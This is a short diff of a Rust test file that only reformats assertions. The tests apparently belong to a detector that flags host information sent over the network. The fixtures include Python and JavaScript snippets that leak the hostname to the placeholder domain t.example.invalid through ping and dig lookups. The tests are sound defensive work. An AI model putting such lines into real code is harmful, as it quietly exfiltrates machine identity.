@@ -283,9 +283,7 @@ fn host_identity_on_a_network_clients_command_line_is_sent() {
         "{found:?}"
     );
     let argv = "import subprocess, platform\nsubprocess.run(['ping', '-c', '1', platform.node() + '.t.example.invalid'])\n";
-    assert!(py(argv)
-        .iter()
-        .any(|f| f.0 == FlowKind::HostInfoToNetwork));
+    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
     let node = "const os = require('os');\nconst cp = require('child_process');\ncp.exec(`dig ${os.hostname()}.t.example.invalid`);\n";
     assert!(js(node).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
 }
@@ -301,9 +299,7 @@ fn host_identity_handed_to_a_local_program_is_not_a_send() {
         "subprocess.run([tool, getpass.getuser()])\n",
     );
     assert!(
-        py(text)
-            .iter()
-            .all(|f| f.0 != FlowKind::HostInfoToNetwork),
+        py(text).iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
         "{:?}",
         py(text)
     );
